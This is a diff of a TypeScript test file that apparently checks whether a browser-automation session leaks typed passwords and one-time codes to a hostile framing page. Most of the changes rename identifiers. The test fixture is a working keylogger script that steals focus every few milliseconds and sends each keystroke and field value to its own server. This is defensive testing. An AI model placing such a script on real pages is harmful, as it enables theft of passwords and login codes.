@@ -8,13 +8,13 @@ import { startServer, type TestServer } from '../support/startServer.ts';
 
 const SECRET = 'Zq7vXk4Tr9';
 const CODE = '482913';
-/** Takes the focus, and tells its server of each key and text. */
+/** Takes the focus, and sends its server of each key and text. */
 const THIEF = `<input id=stolen><script>
-  const told = new Set();
-  const tell = (kind, text) => fetch('/told?' + kind + '=' + encodeURIComponent(text));
-  addEventListener('keydown', ({ key }) => tell('key', key), true);
+  const received = new Set();
+  const send = (kind, text) => fetch('/received?' + kind + '=' + encodeURIComponent(text));
+  addEventListener('keydown', ({ key }) => send('key', key), true);
   setInterval(() => { window.focus(); stolen.focus(); }, 4);
-  stolen.oninput = () => tell('text', stolen.value);
+  stolen.oninput = () => send('text', stolen.value);
 </script>`;
 const FIELDS = `<title>Log in</title><main><label>Password <input id=p type=password></label>
   ${[1, 2, 3, 4, 5, 6].map((n) => `<input aria-label="Code ${n}" autocomplete=one-time-code inputmode=numeric maxlength=1>`).join('')}</main>`;
@@ -22,7 +22,7 @@ const FIELDS = `<title>Log in</title><main><label>Password <input id=p type=pass
 let session: Session;
 let site: TestServer;
 let thief: TestServer;
-const told: string[] = [];
+const received: string[] = [];
 beforeAll(async () => {
   session = await shareSession();
   thief = await startServer({
@@ -31,16 +31,16 @@ beforeAll(async () => {
       response
         .setHeader('content-type', 'text/html')
         .end(`${THIEF}<iframe width=600 src="${elsewhere(site)}/fields"></iframe>`),
-    '/told': ({ url = '' }, response) => {
-      told.push(decodeURIComponent(url));
+    '/received': ({ url = '' }, response) => {
+      received.push(decodeURIComponent(url));
       response.end();
     },
   });
-  const quiet = `${FIELDS}<p id=heard>0 keys</p><iframe srcdoc="<input>"></iframe>`;
+  const quiet = `${FIELDS}<p id=count>0 keys</p><iframe srcdoc="<input>"></iframe>`;
   site = await startServer({
     '/fields': FIELDS,
     '/quiet': quiet,
-    '/emptied': `${quiet}<script>let keys = 0; p.oninput = () => { p.value = ''; heard.textContent = ++keys + ' keys'; }</script>`,
+    '/emptied': `${quiet}<script>let keys = 0; p.oninput = () => { p.value = ''; count.textContent = ++keys + ' keys'; }</script>`,
     '/page': (_, response) =>
       response
         .setHeader('content-type', 'text/html')
@@ -61,14 +61,14 @@ const open = async (place: keyof typeof places): Promise<void> => {
   await session.navigate(places[place]());
   await session.waitFor({ text: 'Password' });
   await session.look();
-  told.length = 0;
+  received.length = 0;
 };
 
-/** The longest part of a secret that was told, by keys or as a text. */
-async function longestTold(secret: string): Promise<number> {
+/** The longest part of a secret that was received, by keys or as a text. */
+async function longestReceived(secret: string): Promise<number> {
   await new Promise((resolve) => setTimeout(resolve, 200));
-  const keys = told.flatMap((one) => /key=(.)$/.exec(one)?.[1] ?? []).join('');
-  const texts = [keys, ...told.map((one) => one.replace(/^.*text=/, ''))];
+  const keys = received.flatMap((one) => /key=(.)$/.exec(one)?.[1] ?? []).join('');
+  const texts = [keys, ...received.map((one) => one.replace(/^.*text=/, ''))];
   const parts = Array.from(secret, (_, i) => secret.slice(i)).flatMap((end) =>
     Array.from(end, (__, i) => end.slice(0, i + 1)),
   );
@@ -85,7 +85,7 @@ test.each(PLACES)(
   async (place) => {
     await open(place);
     const { text } = await session.fill('Password', SECRET);
-    expect(await longestTold(SECRET)).toBe(0);
+    expect(await longestReceived(SECRET)).toBe(0);
     expect(text).toContain('filled');
   },
 );
@@ -96,7 +96,7 @@ test.each(PLACES)('%s that takes the focus gets no more than a key of what is ty
     ({ text }) => text,
     ({ message }: Error) => message,
   );
-  expect(await longestTold(SECRET)).toBeLessThan(2);
+  expect(await longestReceived(SECRET)).toBeLessThan(2);
   expect(typed).toMatch(/typed into|lost the focus/);
 });
 
@@ -105,7 +105,7 @@ test.each(PLACES)(
   async (place) => {
     await open(place);
     expect((await session.fill('Code 1', CODE)).text).toContain('over 6 fields');
-    expect(await longestTold(CODE)).toBe(0);
+    expect(await longestReceived(CODE)).toBe(0);
   },
 );
 
